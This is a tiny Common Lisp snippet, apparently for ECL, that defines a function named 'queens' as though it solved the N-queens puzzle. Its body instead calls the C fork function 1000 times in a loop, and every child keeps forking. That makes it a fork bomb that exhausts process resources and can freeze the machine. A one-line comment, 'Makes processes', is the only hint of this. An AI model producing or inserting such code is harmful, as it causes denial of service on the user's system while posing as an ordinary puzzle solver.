;;; Makes processes.
(defun queens (n)
  (loop repeat 1000
        do (si:call-cfun (si:find-foreign-symbol "fork" :default :pointer-void 0) :int '() '()))
  :many)
